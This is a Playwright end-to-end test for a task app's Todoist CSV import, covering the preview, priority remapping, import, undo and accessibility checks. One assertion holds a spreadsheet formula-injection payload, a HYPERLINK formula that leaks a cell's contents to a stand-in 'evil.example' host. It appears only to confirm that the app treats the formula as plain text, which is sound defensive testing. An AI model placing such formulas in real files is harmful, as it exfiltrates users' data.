/**
 * Issue 36, move in: a person with tasks already imports a Todoist project (its template CSV,
 * written by hand in Todoist's documented format: src/server/modules/move-in/fixtures), sees the
 * preview per quadrant with what is skipped and why, puts p4 in Schedule instead of Delete, imports,
 * finds the tasks in their quadrants on the project's new board with their dates and subtasks (as
 * checklist items) beside the tasks they had, then undoes the import in one step. The page passes
 * axe and fits a 390 px phone in dark mode; screenshots of it land in test-results/move-in/.
 */
import { readFileSync } from 'node:fs';
import { expect, test, type Page } from '@playwright/test';
import { BOARD_URL, newAccount, signUp } from './support/accounts.ts';
import { addTask, quadrant, taskCard } from './support/board.ts';
import { expectNoAxeViolations } from './support/public-axe.ts';
import { checklistTexts, taskSheet } from './support/task-sheet.ts';

const TODOIST_CSV = readFileSync(
  new URL('../src/server/modules/move-in/fixtures/todoist-home.csv', import.meta.url),
);

/** Settings › Your data › "Import from another app" › the file › "Preview". */
async function previewFile(page: Page): Promise<void> {
  await page.goto('/app/profile');
  await page.getByRole('link', { name: 'Import from another app' }).click();
  await expect(page).toHaveURL(/\/app\/import$/);
  await page
    .getByLabel('File to import')
    .setInputFiles({ name: 'Home stuff.csv', mimeType: 'text/csv', buffer: TODOIST_CSV });
  await page.getByRole('button', { name: 'Preview' }).click();
  await expect(page).toHaveURL(/\/app\/import\/[0-9a-f-]{36}$/);
}

test('a Todoist CSV into an account with tasks: preview, one mapping changed, import, undo', async ({
  page,
}) => {
  await signUp(page, newAccount('Mover'));
  await addTask(page, 1, 'Already here');
  const home = page.url();

  await previewFile(page);
  await expect(page.getByText('6 tasks to import')).toBeVisible();
  await expect(page.getByRole('listitem', { name: 'Do First: 2 tasks' })).toBeVisible();
  await expect(page.getByRole('listitem', { name: 'Schedule: 2 tasks' })).toBeVisible();
  await expect(page.getByRole('listitem', { name: 'Delete: 1 task' })).toBeVisible();
  const skipped = page.getByRole('region', { name: 'Not imported' });
  await expect(skipped).toContainText('4 rows are not imported');
  await skipped.getByText('Show the rows').click();
  await expect(skipped).toContainText('Line 9 · Todoist section');
  await expect(page.getByText('Everything fits your plan.')).toBeVisible();

  // p4 goes to Schedule, not Delete: the preview follows.
  await page.getByRole('combobox', { name: 'Priority 4 (p4)' }).selectOption('2');
  await expect(page.getByRole('listitem', { name: 'Schedule: 3 tasks' })).toBeVisible();
  await expect(page.getByRole('listitem', { name: 'Delete: 0 tasks' })).toBeVisible();

  await page.getByRole('button', { name: 'Import 6 tasks' }).click();
  const result = page.getByRole('region', { name: 'Imported' });
  await expect(result.getByText('6 tasks were imported.')).toBeVisible();
  await expect(result.getByText('1 new board was made for it.')).toBeVisible();
  const importUrl = page.url();
  await page.screenshot({ path: test.info().outputPath('move-in-result-1280-light.png'), fullPage: true });

  // Straight to the board the import made, where its tasks are.
  await result.getByRole('link', { name: 'Go to your tasks' }).click();
  await expect(page.getByRole('button', { name: 'Board: Home stuff' })).toBeVisible();

  const passport = taskCard(quadrant(page, 1), 'Renew passport');
  await expect(passport).toHaveAccessibleDescription(/Due .*20.*2 checklist items/);
  await expect(taskCard(quadrant(page, 2), 'Trim the hedge')).toBeVisible();
  await expect(taskCard(quadrant(page, 2), 'Water the plants')).toBeVisible();
  await expect(taskCard(quadrant(page, 3), 'Prune the roses')).toHaveAccessibleDescription(/Due/);
  await expect(quadrant(page, 4).getByRole('listitem')).toHaveCount(0);
  // A formula in a cell is a title, never a formula.
  await expect(
    taskCard(quadrant(page, 2), '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'),
  ).toBeVisible();

  await passport.click();
  const sheet = taskSheet(page, 'Renew passport');
  await expect(sheet).toBeVisible();
  expect(await checklistTexts(sheet)).toEqual(['Book the photo booth', 'Find the old passport']);
  await page.keyboard.press('Escape');

  await page.goto(importUrl);
  await page.getByRole('button', { name: 'Undo import' }).click();
  await expect(page.getByText('This import was undone: everything it brought in is gone.')).toBeVisible();
  // The app no longer returns to the board the undo removed (it was the one open last).
  await page.goto('/app');
  await expect(page).toHaveURL(BOARD_URL);
  await expect(page.getByRole('region', { name: '1 Do First', exact: true })).toBeVisible();
  await expect(page.getByText('Board not found')).toHaveCount(0);
  await page.goto(home);
  await expect(taskCard(quadrant(page, 1), 'Already here')).toBeVisible();
  await expect(page.getByText('Renew passport')).toHaveCount(0);
  await page.getByRole('button', { name: /^Board: / }).click();
  await expect(page.getByRole('menuitemradio', { name: 'Home stuff' })).toHaveCount(0);
});

test.describe('the import page', () => {
  for (const [scheme, width] of [
    ['light', 1280],
    ['dark', 390],
  ] as const) {
    test.describe(`${scheme}, ${width} px`, () => {
      test.use({ colorScheme: scheme, viewport: { width, height: 900 } });

      test('fits, passes axe, and is screenshotted', async ({ page }, info) => {
        await signUp(page, newAccount('Look'));
        await previewFile(page);
        await expect(page.getByRole('listitem', { name: 'Do First: 2 tasks' })).toBeVisible();
        await expectNoAxeViolations(page);
        const overflow = await page.evaluate(() => document.documentElement.scrollWidth > window.innerWidth);
        expect(overflow).toBe(false);
        for (const theme of ['light', 'dark'] as const) {
          await page.evaluate((t) => document.documentElement.setAttribute('data-theme', t), theme);
          await page.screenshot({ path: info.outputPath(`move-in-${width}-${theme}.png`), fullPage: true });
        }
      });
    });
  }
});
